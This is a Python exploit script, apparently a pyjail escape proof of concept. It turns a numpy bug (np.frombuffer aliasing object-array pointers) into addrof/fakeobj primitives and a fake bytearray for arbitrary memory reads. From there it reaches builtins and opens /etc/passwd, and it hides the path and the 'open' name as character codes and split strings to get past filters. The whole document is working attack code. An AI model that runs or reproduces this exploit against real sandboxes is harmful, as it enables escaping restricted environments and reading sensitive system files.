# source: https://github.com/numpy/numpy/issues/6811 (open numpy bug: np.frombuffer(np.array(None), np.int64)[0] = 1 segfaults -- object array buffers are writable)
# source: pyjail addrof/fakeobj technique (fake bytearray arbitrary read); numpy frombuffer accepts an object ndarray as a buffer and aliases its PyObject* slots
# family: numpy/pandas object storage as buffer -> fakeobj -> arbitrary read -> builtins
# goal: read /etc/passwd via builtins open, without memoryview() or .data
import json
import numpy as np
import pandas as pd

ser = pd.Series([None, None], dtype=object)
store = ser.to_numpy()
ints = np.frombuffer(store, dtype=np.uint64)


def addr_of(o):
    store[1] = o
    return int(ints[1])


def fake(addr):
    ints[0] = addr
    return store[0]


def q(x):
    return int(x).to_bytes(8, "little")


big = 0x7FFFFFFFFFFF
payload = q(0x100000) + q(addr_of(bytearray)) + q(big) + q(big) + q(0) + q(0) + q(0)
mem = fake(addr_of(payload) + 32)


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


b = fake(rd(addr_of(json.loads) + 24))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["op" + "en"](path).read())
store[0] = None
store[1] = None
